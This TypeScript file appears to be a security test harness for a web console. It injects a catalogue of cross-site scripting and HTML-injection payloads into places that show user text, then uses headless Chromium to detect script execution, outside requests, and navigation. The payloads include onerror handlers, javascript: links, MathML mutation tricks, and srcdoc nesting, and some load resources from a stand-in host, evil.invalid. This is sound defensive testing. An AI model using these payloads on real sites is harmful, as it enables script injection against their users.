/** What others may write, and what must not come of it wherever the console shows it. */
import type { Chromium, Visitor } from "./chromium.ts";

/** Nothing may be asked of this address, which no machine has. */
export const EVIL = "http://evil.invalid";
/** Leaves a trace where it is run. */
export const RUN = "top.ran=1;alert(1)";

/** What others may write, into any text that the console shows. */
export const CASES: Readonly<Record<string, string>> = {
  "a script": `<script>${RUN}</script><script src="${EVIL}/a.js"></script><script type="module">${RUN}</script>`,
  "a picture that fails": `<img src=x onerror="${RUN}"><img src="${EVIL}/a.png" onload="${RUN}">`,
  "a picture of markdown": `![a](${EVIL}/b.png "x\\" onerror=\\"${RUN}") ![b](x" onerror="${RUN})`,
  "a link that runs": `[click](javascript:${RUN}) [click](JaVaScRiPt&#58;${RUN}) <a href=" java\tscript:${RUN}">click</a>`,
  "a link with data": `[x](data:text/html,<script>${RUN}</script>) <a href="data:text/html,<script>${RUN}</script>">x</a>`,
  "an autolink": `<javascript:${RUN}> <${EVIL}/c?onerror=${RUN}> vbscript:${RUN}`,
  "SVG with a script": `<svg onload="${RUN}"><script>${RUN}</script><animate onbegin="${RUN}" attributeName=x dur=1s /></svg>`,
  "SVG with a foreign object": `<svg><foreignObject><iframe src="javascript:${RUN}"></iframe></foreignObject><use href="${EVIL}/d.svg#x"/></svg>`,
  "MathML that is parsed anew": `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  "a frame elsewhere": `<iframe src="${EVIL}/e"></iframe><object data="${EVIL}/f"></object><embed src="${EVIL}/g">`,
  "frames in frames": `<iframe srcdoc="<iframe srcdoc='&lt;script&gt;${RUN}&lt;/script&gt;&lt;img src=${EVIL}/h onerror=${RUN}&gt;'></iframe>"></iframe>`,
  "a frame that runs": `<iframe src="javascript:${RUN}"></iframe><iframe src="/" sandbox="allow-scripts allow-same-origin"></iframe>`,
  "a page that leaves": `<meta http-equiv="refresh" content="0;url=${EVIL}/i"><meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  "a page of another base": `<base href="${EVIL}/" target="_top"><img src="j.png"><link rel="stylesheet" href="k.css">`,
  "styles from elsewhere": `<style>@import "${EVIL}/l.css"; body { background: url(${EVIL}/m.png) } @font-face { font-family: x; src: url(${EVIL}/n) } * { font-family: x }</style>`,
  "links that are fetched ahead": `<link rel="prefetch" href="${EVIL}/o"><link rel="preload" as="script" href="${EVIL}/p.js"><link rel="modulepreload" href="${EVIL}/q.js">`,
  "a form that sends itself": `<form action="${EVIL}/r" target="_top"><input name=a autofocus onfocus="this.form.submit();${RUN}"><button id=x>Send</button></form>`,
  "a policy that is loosened": `<meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline'"><script>${RUN}</script><img src="${EVIL}/s.png">`,
  "the end of the frame": `</iframe></textarea></title></style></script>--><script>${RUN}</script><img src=x onerror="${RUN}">`,
  "the end of an attribute": `" autofocus onfocus="${RUN}" x="' onmouseover='${RUN}' x='`,
  "media and events": `<video src="${EVIL}/t" onerror="${RUN}"></video><audio src=x onerror="${RUN}"></audio><details open ontoggle="${RUN}">x</details><body onload="${RUN}">`,
  "a template that is a shadow": `<div><template shadowrootmode="open"><script>${RUN}</script><img src=x onerror="${RUN}"></template></div>`,
  "keys of objects": "__proto__",
};

/** A place of the console where texts of others are shown, and how it is made to show one. */
export interface Place {
  readonly name: string;
  /** Answers a call of the console; undefined leaves it to the server. */
  readonly answer: (path: string, markup: string) => unknown;
  /** Opens all that there is to see. */
  readonly show: (visitor: Visitor, origin: string, markup: string) => Promise<void>;
}

/** Shows each case in a place; gives by case what got out of it. */
export async function tryCases(
  chromium: Chromium,
  origin: string,
  place: Place,
): Promise<Readonly<Record<string, readonly string[]>>> {
  const visitor = await chromium.visit("about:blank");
  const { page } = visitor;
  const dialogs: string[] = [];
  let markup = "";
  page.on("dialog", (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  await page.evaluateOnNewDocument(watch);
  await page.setRequestInterception(true);
  page.on("request", (request) => {
    const url = new URL(request.url());
    const body = url.origin === origin ? place.answer(url.pathname, markup) : undefined;
    if (body === undefined) void request.continue();
    else void request.respond({ status: 200, contentType: "application/json", body: JSON.stringify(body) });
  });
  const harm: Record<string, readonly string[]> = {};
  for (const [name, text] of Object.entries(CASES)) {
    markup = text;
    await place.show(visitor, origin, text);
    const found = await harmOf(visitor, origin, dialogs.splice(0));
    if (found.length > 0) harm[name] = found;
  }
  await page.close();
  return harm;
}

/** What of the shown got out of its place. */
export async function harmOf(
  { page, requests }: Visitor,
  own: string,
  dialogs: readonly string[],
): Promise<readonly string[]> {
  const seen = await page.evaluate(() => {
    const { ran, harm = [] } = globalThis as { ran?: unknown; harm?: string[] };
    return [...(ran === undefined ? [] : ["a script ran"]), ...new Set(harm.splice(0))];
  });
  const asked = requests
    .filter(({ origin, protocol }) => origin !== own && !/^(?:data|blob|about):$/.test(protocol))
    .map(({ href }) => `asked ${href}`);
  const left = page.url().startsWith(`${own}/#`) ? [] : [`left for ${page.url()}`];
  return [...seen, ...asked, ...left, ...dialogs];
}

/** Runs before the scripts of a page: notes what becomes part of the console that cannot be its own. */
export function watch(): void {
  if (window !== window.top) return;
  const harm: string[] = [];
  Object.assign(globalThis, { harm });
  const look = (element: Element) => {
    for (const name of ["href", "src", "action", "srcdoc"]) {
      const value = element.getAttribute(name);
      if (element.tagName === "IFRAME" && name === "srcdoc") continue;
      if (value !== null && !/^(?:https?:|#|\/|data:(?:image|audio|video)\/)/.test(value)) harm.push(value);
    }
    if (
      /^(?:script|style|svg|object|embed|math|base|meta|link)$/i.test(element.tagName) &&
      element.closest("#app")
    )
      harm.push(`markup became an element ${element.tagName}`);
    for (const { name } of element.attributes)
      if (name.startsWith("on")) harm.push(`${element.tagName} ${name}`);
  };
  new MutationObserver((records) => {
    for (const { target, addedNodes } of records)
      for (const node of [target, ...addedNodes])
        if (node instanceof Element)
          for (const element of [node, ...node.querySelectorAll("*")]) look(element);
  }).observe(document, { subtree: true, childList: true, attributes: true });
}
